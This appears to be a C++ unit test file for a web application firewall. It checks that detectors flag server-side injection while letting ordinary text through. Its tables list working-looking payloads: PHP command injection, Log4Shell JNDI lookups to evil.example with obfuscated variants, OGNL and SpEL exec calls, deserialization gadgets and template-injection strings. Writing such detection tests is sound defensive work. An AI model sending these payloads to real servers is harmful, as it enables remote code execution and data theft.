// The analysers of code that a server would run: tables of attacks and of what only looks like them.
#include <gtest/gtest.h>

#include "detect/analyze/java/java_expression.h"
#include "detect/analyze/java/lookup_reader.h"
#include "detect/analyze/php/php_injection.h"
#include "detect/analyze/script/script_code.h"
#include "tests/detect/analyze/analyze_support.h"
#include "tests/detect/analyze/judged_matchers.h"

namespace wafd::detect {
namespace {

using namespace std::string_view_literals;

struct Row {
  std::string_view text;
  const char* verdict;
};

template <std::size_t N>
void expect_rows(const Analyzer& analyzer, const Row (&rows)[N]) {
  for (const Row& row : rows) EXPECT_EQ(verdict_of(analyzer, row.text), row.verdict) << row.text;
}

template <std::size_t N>
void expect_benign(const Analyzer& analyzer, const char* const (&texts)[N]) {
  for (const char* text : texts) {
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text))) << text;
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kBody))) << text;
  }
}

constexpr const char* kOrdinary[] = {
    "Hello {{name}}, your order {{ order.id }} is ready",
    "Total: ${price}",
    "{{ user.name | upper }}",
    "#{id} is the number",
    "The system (new) works, include (all) files",
    "function f(a) { return a + 1; }",
    "a = b ? c : d;",
    "items.map(x => x.id)",
    "{\"@type\":\"Product\",\"name\":\"x\"}",
    "{\"class\":\"btn btn-primary\",\"type\":\"button\"}",
    "Please copy (the) file and exit (now)",
    "array(1)",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a/>",
    "java.lang.NullPointerException: x\n\tat java.lang.Thread.run(Thread.java:748)",
    "java.util.ArrayList",
    "I use Java, Python and PHP",
    "price is $5 (five)",
    "$scope.$apply()",
    "$t",
    "jQuery $(document).ready",
    "while we wait (a bit)",
    "process the order; require a signature",
    "the constructor of the house and its prototype",
    "2024-01-01 {2024-02-02}",
    "{1-5}",
    "100% {sure}",
    "O: 5",
    "rO0 is a word",
    "<b>50% off</b>",
    "[[wiki link]]",
    "{% comment",
    "console",
    "mailto:a@b.example",
    "![file](/img/a.png \"script\")",
    "[system](/docs/system)",
    "see [exec](https://docs.example/exec) and [eval](#eval)",
    "#set of tools",
    "module 3: exports",
};

constexpr Row kPhp[] = {
    {"<?php echo 1;", "low"},
    {"<?= $x ?>", "balanced"},
    {"print(md5(31337));", "balanced"},
    {"a{${sleep(12)}}", "balanced"},
    {"{${count} of ${all}}", "-"},
    {"die(@md5(1));", "balanced"},
    {"print (md5 of the file)", "strict"},
    {"<? echo 1; ?>", "balanced"},
    {"system($_GET['c'])", "low"},
    {"eval(base64_decode('eA=='))", "low"},
    {"@assert($_POST[1])", "low"},
    {"phpinfo()", "balanced"},
    {"file_put_contents('a.php','x')", "balanced"},
    {"system('id')", "balanced"},
    {"('sys'.'tem')('id')", "balanced"},
    {"(system)('id')", "balanced"},
    {"[system][0]('id')", "balanced"},
    {"$f['x']('id')", "balanced"},
    {"$a='sys'.'tem';$a('id');", "balanced"},
    {"${'a'}('id')", "balanced"},
    {"$_SERVER", "balanced"},
    {"-d allow_url_include=1 -d auto_prepend_file=php://input", "balanced"},
    {"sy/**/stem('id')", "-"},
};

constexpr Row kJava[] = {
    {"${jndi:ldap://evil.example/a}", "low"},
    {"${${lower:j}ndi:rmi://evil.example/a}", "low"},
    {"${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}", "low"},
    {"${${env:NONE:-j}ndi${env:NONE:-:}ldap://evil.example/a}", "low"},
    {"${${upper:${lower:J}}ndi:dns://evil.example}", "low"},
    {"${env:AWS_SECRET_ACCESS_KEY}", "balanced"},
    {"${script:javascript:1}", "balanced"},
    {"%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "low"},
    {"@java.lang.Runtime@getRuntime()", "low"},
    {"(#a=new x())", "low"},
    {"T(java.lang.Runtime).getRuntime().exec('id')", "low"},
    {"Runtime.getRuntime().exec('id')", "balanced"},
    {"new java.lang.ProcessBuilder('id').start()", "balanced"},
    {"class.module.classLoader.resources", "low"},
    {"java.lang.Runtime", "balanced"},
    {"''.getClass().forName('x')", "balanced"},
    {"InvokerTransformer", "balanced"},
    {"@groovy.transform.ASTTest(value={assert 1})def x", "balanced"},
    {"@Grab('a:b:1')import x", "balanced"},
    {"Jenkins.instance.pluginManager", "balanced"},
    {"println Jenkins.instance.toString()", "balanced"},
    {"Jenkins.get().getSecurityRealm()", "balanced"},
    {"jenkins.model.Jenkins", "balanced"},
    {"Jenkins.instance.example.org", "-"},
    {"jenkins.instance.of.ours", "-"},
    {"grab (it) and @grab", "-"},
    {"neutralName;javax.el.ELProcessor", "balanced"},
    {"class.classLoader.URLs[0]", "low"},
    {"class.classLoader.URLs[0]=jar:http://e.example", "low"},
};

constexpr Row kDeserial[] = {
    {"\xac\xed\x00\x05sr"sv, "balanced"},
    {"rO0ABXNyAAph", "balanced"},
    {"O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "balanced"},
    {"O:8:\"stdClass\":2:{s:4:\"city\";s:5:\"Paris\";s:3:\"zip\";i:75001;}", "strict"},
    {"O:8:\"stdClass\":2:{s:1:\"a\";O:1:\"B\":0:{}s:1:\"c\";i:1;}", "balanced"},
    {"O:+8:\"stdClass\":2:{s:1:\"a\";i:1;s:1:\"c\";i:1;}", "balanced"},
    {"a:1:{i:0;O:+3:\"Foo\":0:{}}", "balanced"},
    {"AAEAAAD/////AQAAAA", "balanced"},
    {"_$$ND_FUNC$$_function(){}()", "low"},
    {"!!python/object/apply:os.system ['id']", "balanced"},
    {"<java><object class=\"java.beans.XMLDecoder\"/></java>", "low"},
    {"{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}", "balanced"},
    {"cos\nsystem\n(S'id'\ntR.", "balanced"},
};

constexpr Row kSsti[] = {
    {"{$x|system}", "balanced"},
    {"{\"id\"|passthru:y}", "balanced"},
    {"{$price|number_format:2}", "-"},
    {"{$name|escape:'html'}", "-"},
    {"{{7*7}}", "balanced"},
    {"${7*7}", "balanced"},
    {"<%= 7*7 %>", "balanced"},
    {"#{3*3}", "balanced"},
    {"{{7*'7'}}", "balanced"},
    {"{{''.__class__.__mro__[1].__subclasses__()}}", "low"},
    {"{{config.items()}}", "low"},
    {"{{request|attr('application')}}", "low"},
    {"{{['id']|filter('system')}}", "low"},
    {"{{_self.env.registerUndefinedFilterCallback('exec')}}", "low"},
    {"<#assign ex='freemarker.template.utility.Execute'?new()>", "low"},
    {"#set($x='')", "low"},
    {"<%= system('id') %>", "low"},
    {"${system('id')}", "low"},
    {"<!--#exec cmd='id'-->", "low"},
    {"<esi:include src=//evil.example>", "low"},
    {"@{[system 'id']}", "low"},
    {"().__class__.__base__.__subclasses__()", "low"},
    {"{% if x %}", "strict"},
};

constexpr Row kCode[] = {
    {"__import__('os').system('id')", "balanced"},
    {"os.system('id')", "balanced"},
    {"Process.spawn('id')", "balanced"},
    {"IO.popen('id')", "balanced"},
    {"'id'.execute()", "balanced"},
    {"['sh','-c','id'].execute().text", "balanced"},
    {"['a','b'].executes()", "-"},
};

TEST(ServerCode, Php) { expect_rows(*make_php_injection_analyzer(), kPhp); }
TEST(ServerCode, Java) { expect_rows(*make_java_expression_analyzer(), kJava); }
TEST(ServerCode, Deserialization) { expect_rows(*make_deserialization_analyzer(), kDeserial); }
TEST(ServerCode, Templates) { expect_rows(*make_ssti_analyzer(), kSsti); }
TEST(ServerCode, ScriptCode) { expect_rows(*make_script_code_analyzer(), kCode); }

TEST(ServerCode, OrdinaryTextPassesAtBalanced) {
  expect_benign(*make_php_injection_analyzer(), kOrdinary);
  expect_benign(*make_java_expression_analyzer(), kOrdinary);
  expect_benign(*make_deserialization_analyzer(), kOrdinary);
  expect_benign(*make_ssti_analyzer(), kOrdinary);
  expect_benign(*make_script_code_analyzer(), kOrdinary);
}

TEST(ServerCode, PhpInAFileIsFoundByItsTagAlone) {
  const auto analyzer = make_php_injection_analyzer();
  EXPECT_EQ(verdict_of(*analyzer, "GIF89a\n<?php system('id');", Location::kFile), "low");
  EXPECT_EQ(verdict_of(*analyzer, "phpinfo() is a function", Location::kFile), "-");
}

TEST(LookupReader, ResolvesFromTheInside) {
  EXPECT_EQ(resolve_lookups("a${lower:X}b").resolved, "axb");
  EXPECT_EQ(resolve_lookups("${a:${lower:B}:-c}").resolved, "c");
  EXPECT_EQ(resolve_lookups("${::-j}ndi").resolved, "jndi");
  EXPECT_EQ(resolve_lookups("${unknown}").resolved, "${unknown}");
  EXPECT_EQ(resolve_lookups("${${lower:j}ndi:x").resolved, "${jndi:x");
  EXPECT_EQ(resolve_lookups("}}{$").resolved, "}}{$");
}

}  // namespace
}  // namespace wafd::detect
